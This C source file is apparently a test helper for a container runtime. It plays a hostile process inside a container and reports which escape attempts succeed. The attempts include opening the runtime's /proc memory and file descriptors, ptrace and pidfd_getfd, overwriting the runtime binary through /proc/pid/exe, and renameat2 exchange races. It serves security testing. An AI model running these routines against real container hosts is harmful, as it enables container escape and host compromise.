/* What a hostile program inside a container does. Static; prints "name<TAB>value" lines.
 *
 *   swap FIRST SECOND        exchange two names in bursts and at uneven moments, until it is killed
 *   watch                    try every process of a runtime that shows up, until it is killed
 *   overwrite                wait for executables of a runtime and write to them, until it is
 * killed write PATH TEXT          one write */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#define SYS_pidfd_getfd 438
#endif

static int is_runtime(const char *pid)
{
	char path[64], comm[32];
	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t size = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	comm[size > 0 ? size : 0] = 0;
	return !strncmp(comm, "ocirt", 5) || !strncmp(comm, "runc", 4) ||
	       !strncmp(comm, "crun", 4) ||
	       (comm[0] >= '0' && comm[0] <= '9'); /* an fd that was executed, before Linux 6.14 */
}

/* A win counts only if the process is still the runtime's afterwards. */
static void won(const char *pid, const char *what)
{
	if (is_runtime(pid))
		printf("won\t%s\n", what);
}

static void try_open(const char *pid, const char *name, int flags)
{
	char path[300];
	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	int fd = open(path, flags | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		won(pid, name);
		close(fd);
	}
}

static void try_process(const char *pid)
{
	char path[300], byte;
	struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
	int number = atoi(pid);
	printf("seen\t%s\n", pid);
	try_open(pid, "mem", O_RDWR);
	try_open(pid, "environ", O_RDONLY);
	try_open(pid, "maps", O_RDONLY);
	try_open(pid, "exe", O_RDONLY);
	try_open(pid, "root", O_PATH);
	try_open(pid, "cwd", O_PATH);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *fds = opendir(path);
	for (struct dirent *entry; fds && (entry = readdir(fds));)
		if (entry->d_name[0] != '.') {
			snprintf(path, sizeof(path), "fd/%.200s", entry->d_name);
			try_open(pid, path, O_PATH);
		}
	if (fds)
		closedir(fds);
	int pidfd = syscall(SYS_pidfd_open, number, 0);
	for (int fd = 3; pidfd >= 0 && fd < 12; fd++)
		if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
			won(pid, "pidfd_getfd");
	if (pidfd >= 0)
		close(pidfd);
	if (process_vm_readv(number, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		won(pid, "process_vm_readv");
	if (!ptrace(PTRACE_SEIZE, number, 0, 0)) {
		won(pid, "ptrace");
		/* It may have executed its program by now: let that go on. */
		ptrace(PTRACE_INTERRUPT, number, 0, 0);
		waitpid(number, 0, __WALL);
		ptrace(PTRACE_DETACH, number, 0, 0);
	}
}

static void try_overwrite(const char *pid)
{
	char path[300];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int place = open(path, O_PATH | O_CLOEXEC);
	if (place < 0)
		return;
	printf("seen\t%s\n", pid);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", place);
	/* Busy while it runs: once more when it has gone. */
	for (int i = 0; i < 2000; i++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY) {
			printf("refused\t%s\n", strerror(errno));
			break;
		}
		if (fd >= 0) {
			printf(write(fd, "overwritten", 11) > 0 ? "won\twrite\n" : "opened\t-\n");
			close(fd);
			break;
		}
		usleep(100);
	}
	close(place);
}

/* Every process but our own. */
static void for_each(void (*try)(const char *))
{
	char own[16];
	snprintf(own, sizeof(own), "%d", getpid());
	for (;;) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; processes && (entry = readdir(processes));)
			if (atoi(entry->d_name) && strcmp(entry->d_name, own) &&
			    is_runtime(entry->d_name))
				try(entry->d_name);
		if (processes)
			closedir(processes);
		while (waitpid(-1, 0, WNOHANG | __WALL) > 0)
			;
	}
}

/* A walk with ".." below a root fails as long as anything is renamed meanwhile, so a burst
 * alone would never let the link be followed: after it come single exchanges with pauses of up
 * to 0.26 ms. */
static void swap_for_a_while(const char *first, const char *second)
{
	static unsigned int chance = 1;
	for (int i = 0; i < 1000; i++)
		syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, 2);
	for (int i = 0; i < 100; i++) {
		syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, 2);
		chance = chance * 1103515245 + 12345;
		usleep(chance >> 16 & 0xff);
	}
}

int main(int argc, char **argv)
{
	setvbuf(stdout, 0, _IOLBF, 0);
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "watch"))
		for_each(try_process);
	if (!strcmp(what, "overwrite"))
		for_each(try_overwrite);
	if (!strcmp(what, "swap") && argc == 4) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2)) {
			printf("refused\t%s\n", strerror(errno));
			return 1;
		}
		puts("swapping\t-");
		/* A test that was killed leaves nobody who would end us. */
		for (pid_t parent = getppid(); getppid() == parent;)
			swap_for_a_while(argv[2], argv[3]);
	}
	if (!strcmp(what, "write") && argc == 4) {
		int fd = open(argv[2], O_WRONLY);
		if (fd < 0 || write(fd, argv[3], strlen(argv[3])) < 0)
			printf("%s\t%s\n", argv[2], strerror(errno));
		else
			printf("%s\tok\n", argv[2]);
	}
	return 2;
}
